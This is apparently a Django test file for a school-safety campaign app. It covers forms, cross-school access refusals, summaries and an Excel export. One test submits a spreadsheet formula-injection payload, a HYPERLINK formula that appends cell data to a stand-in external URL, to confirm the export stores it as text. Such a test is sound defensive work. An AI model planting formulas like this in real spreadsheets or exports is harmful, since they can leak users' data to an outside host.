"""The campaign pages over HTTP: launching (typed input kept on a refusal), the campaign's page
for the bureau and for a school, a unit's tasks (another school's: 404), marking done, the
switch-on forms, the summary form and the export (opened again with openpyxl)."""

import datetime as dt
from io import BytesIO

import time_machine
from openpyxl import load_workbook

from safecampus.campaigns import services
from safecampus.campaigns.models import Campaign, Member, Summary, TaskDone
from safecampus.levels.models import AlertOrder
from safecampus.reports import services as reports

from .test_services import DAY, CampaignCase, at


class PageTests(CampaignCase):
    def test_launch_keeps_the_typed_input_on_a_refusal(self) -> None:
        client = self.client_for(self.officer)
        self.assertEqual(client.get("/campaigns/new/").status_code, 200)
        body = {
            "unit": self.bureau.pk,
            "name": "元旦春节期间校园安全专项行动",
            "goal": "确保节日期间校园安全",
            "starts_on": "2026-12-10",
            "ends_on": "2026-12-01",
            "summary_days": 5,
        }
        refused = client.post("/campaigns/new/", body)
        self.assertEqual(refused.status_code, 200)
        html = refused.content.decode()
        self.assertIn("before it starts", html)
        self.assertIn("元旦春节期间校园安全专项行动", html)
        self.assertIn("确保节日期间校园安全", html)
        self.assertFalse(Campaign.objects.exists())
        created = client.post("/campaigns/new/", body | {"ends_on": "2027-02-28"})
        campaign = Campaign.objects.get()
        self.assertRedirects(created, f"/campaigns/{campaign.pk}/")
        page = client.get(f"/campaigns/{campaign.pk}/").content.decode()
        for part in ("动员部署", "总结提升", "What it switches on", "Summaries"):
            self.assertIn(part, page)

    def test_a_school_cannot_launch(self) -> None:
        self.assertEqual(self.client_for(self.principal_a).get("/campaigns/new/").status_code, 404)

    def test_bureau_and_school_pages_and_another_school_refused(self) -> None:
        campaign = self.launch()
        task = services.task_create(
            by=self.officer, phase=campaign.phases.first(), title="制定本校方案", due_on=DAY
        )
        officer = self.client_for(self.officer)
        page = officer.get(f"/campaigns/{campaign.pk}/")
        self.assertContains(page, 'data-testid="switch-ons"')
        self.assertContains(page, "Not done 4/4")
        school = self.client_for(self.principal_a)
        page = school.get(f"/campaigns/{campaign.pk}/")
        self.assertNotContains(page, 'data-testid="switch-ons"')
        self.assertContains(page, f'data-testid="my-unit-{self.school_a.pk}"')
        self.assertContains(
            school.get("/campaigns/"), f'data-testid="due-{task.pk}-{self.school_a.pk}"'
        )
        # School B's principal: not school A's tasks, not the bureau's task page.
        other = self.client_for(self.principal_b)
        self.assertEqual(
            other.get(f"/campaigns/{campaign.pk}/units/{self.school_a.pk}/").status_code, 404
        )
        refused = other.post(
            f"/campaigns/{campaign.pk}/units/{self.school_a.pk}/tasks/{task.pk}/done/"
        )
        self.assertEqual(refused.status_code, 404)
        self.assertEqual(other.get(f"/campaigns/{campaign.pk}/tasks/{task.pk}/").status_code, 403)
        self.assertEqual(
            other.get(f"/campaigns/{campaign.pk}/units/{self.school_a.pk}/summary/").status_code,
            404,
        )
        # School A marks it done with a note; the bureau sees it.
        done = school.post(
            f"/campaigns/{campaign.pk}/units/{self.school_a.pk}/tasks/{task.pk}/done/",
            {"note": "方案已印发"},
        )
        self.assertRedirects(done, f"/campaigns/{campaign.pk}/units/{self.school_a.pk}/")
        self.assertEqual(TaskDone.objects.get().note, "方案已印发")
        rows = officer.get(f"/campaigns/{campaign.pk}/tasks/{task.pk}/")
        self.assertContains(rows, 'data-state="done"', count=1)
        self.assertContains(rows, 'data-state="not_done"', count=3)
        # A group's campaign is not school A's to see.
        west = self.launch(unit=self.group_2)
        self.assertEqual(school.get(f"/campaigns/{west.pk}/").status_code, 404)

    def test_task_form_keeps_input_and_task_is_set(self) -> None:
        campaign = self.launch()
        client = self.client_for(self.officer)
        phase = campaign.phases.get(position=2)
        body = {
            "phase": phase.pk,
            "title": "开展消防演练",
            "detail": "全员参加",
            "due_on": "2027-01-30",
        }
        refused = client.post(f"/campaigns/{campaign.pk}/tasks/new/", body)
        self.assertContains(refused, "outside the campaign")
        self.assertContains(refused, "开展消防演练")
        self.assertContains(refused, "全员参加")
        ok = client.post(f"/campaigns/{campaign.pk}/tasks/new/", body | {"due_on": "2026-12-05"})
        self.assertRedirects(ok, f"/campaigns/{campaign.pk}/")
        self.assertEqual(campaign.tasks.get().phase, phase)

    def test_phase_form_refuses_dates_outside(self) -> None:
        campaign = self.launch()
        phase = campaign.phases.get(position=4)
        client = self.client_for(self.officer)
        refused = client.post(
            f"/campaigns/{campaign.pk}/phases/{phase.pk}/",
            {"name": "总结提升阶段", "starts_on": "2026-12-15", "ends_on": "2027-01-10"},
        )
        self.assertContains(refused, "outside the campaign")
        self.assertContains(refused, "总结提升阶段")
        self.assertEqual(
            self.client_for(self.principal_a)
            .get(f"/campaigns/{campaign.pk}/phases/{phase.pk}/")
            .status_code,
            403,
        )

    def test_switch_on_orders_and_a_refused_schedule(self) -> None:
        campaign = self.launch()
        client = self.client_for(self.officer)
        form = client.get(f"/campaigns/{campaign.pk}/switch/orders/")
        self.assertContains(form, 'value="2026-11-30"')  # the first week's last day
        posted = client.post(
            f"/campaigns/{campaign.pk}/switch/orders/",
            {
                "level_1": 2,
                "from_1": "2026-11-24",
                "until_1": "2026-11-30",
                "level_2": 1,
                "from_2": "2026-12-01",
                "until_2": "2026-12-23",
                "reason": "",
            },
        )
        self.assertRedirects(posted, f"/campaigns/{campaign.pk}/")
        self.assertEqual(sorted(AlertOrder.objects.values_list("level", flat=True)), [1, 2])
        page = client.get(f"/campaigns/{campaign.pk}/")
        self.assertContains(page, 'data-testid="switch-order"', count=2)
        reports.schedule_create(by=self.officer, root=self.bureau, name="日常日报", starts_on=DAY)
        refused = client.post(
            f"/campaigns/{campaign.pk}/switch/schedule/",
            {
                "root": self.bureau.pk,
                "name": "专项行动日报",
                "frequency": "daily",
                "deadline_school": "13:30",
                "deadline_group": "14:00",
                "deadline_bureau": "14:00",
            },
        )
        self.assertContains(refused, "日常日报")
        self.assertContains(refused, "专项行动日报")

    def test_members_page(self) -> None:
        campaign = self.launch()
        client = self.client_for(self.officer)
        saved = client.post(
            f"/campaigns/{campaign.pk}/members/",
            {"person": self.principal_a.pk, "position": "deputy", "duty": "负责城关片区"},
        )
        self.assertRedirects(saved, f"/campaigns/{campaign.pk}/members/")
        member = Member.objects.get()
        self.assertContains(client.get(f"/campaigns/{campaign.pk}/"), "负责城关片区")
        client.post(f"/campaigns/{campaign.pk}/members/{member.pk}/remove/")
        self.assertFalse(Member.objects.exists())

    def test_summary_form_list_and_export(self) -> None:
        campaign = self.launch()
        school = self.client_for(self.principal_a)
        url = f"/campaigns/{campaign.pk}/units/{self.school_a.pk}/summary/"
        self.assertContains(school.get(url), "The summary is written from")
        last = campaign.phases.order_by("-position").first()
        with time_machine.travel(at(last.starts_on), tick=False):
            school = self.client_for(self.principal_a)  # a session of that day
            refused = school.post(url, {"text": "   "})
            self.assertContains(refused, "This field is required")
            text = '=HYPERLINK("http://x.example/?"&A1,"点击")\n二、存在问题'
            self.assertRedirects(
                school.post(url, {"text": text}),
                f"/campaigns/{campaign.pk}/units/{self.school_a.pk}/",
            )
        self.assertEqual(Summary.objects.get().text, text)
        with time_machine.travel(at(campaign.summary_due_on + dt.timedelta(days=1)), tick=False):
            officer = self.client_for(self.officer)
            page = officer.get(f"/campaigns/{campaign.pk}/summaries/")
            self.assertContains(page, 'data-state="submitted"', count=1)
            self.assertContains(page, 'data-state="missing"', count=3)
            self.assertContains(officer.get(url), "二、存在问题")  # the bureau reads it
            export = officer.get(f"/campaigns/{campaign.pk}/summaries/export/")
            self.assertEqual(export.status_code, 200)
            ws = load_workbook(BytesIO(export.content)).active
            rows = {r[1]: r for r in ws.iter_rows(min_row=4, values_only=True)}
            self.assertEqual(set(rows), {"城关学区", "西山学区", "城关小学", "西山小学"})
            self.assertEqual(rows["城关小学"][2], "Submitted")
            self.assertEqual(rows["城关小学"][5], text)
            cell = next(c for c in ws["F"] if c.value == text)
            self.assertEqual(cell.data_type, "s")  # text, never a formula
            self.assertEqual(rows["西山小学"][2], "Missing")
            self.assertEqual(
                self.client_for(self.principal_a)
                .get(f"/campaigns/{campaign.pk}/summaries/export/")
                .status_code,
                403,
            )


class QueryCountTests(CampaignCase):
    def test_the_campaign_page_does_not_grow_with_tasks_or_switch_ons(self) -> None:
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        campaign = self.launch()
        phase = campaign.phases.first()
        client = self.client_for(self.officer)
        url = f"/campaigns/{campaign.pk}/"

        def count() -> int:
            client.get(url)  # the session and the user's scope warm
            with CaptureQueriesContext(connection) as queries:
                self.assertEqual(client.get(url).status_code, 200)
            return len(queries)

        services.task_create(by=self.officer, phase=phase, title="t0", due_on=DAY)
        services.campaign_orders_issue(
            by=self.officer, campaign=campaign, orders=[services.PlannedOrder(2, DAY, DAY)]
        )
        few = count()
        for n in range(1, 6):
            services.task_create(by=self.officer, phase=phase, title=f"t{n}", due_on=DAY)
        services.campaign_orders_issue(
            by=self.officer,
            campaign=campaign,
            orders=[services.PlannedOrder(2, DAY, DAY), services.PlannedOrder(1, DAY, DAY)],
        )
        self.assertEqual(count(), few)
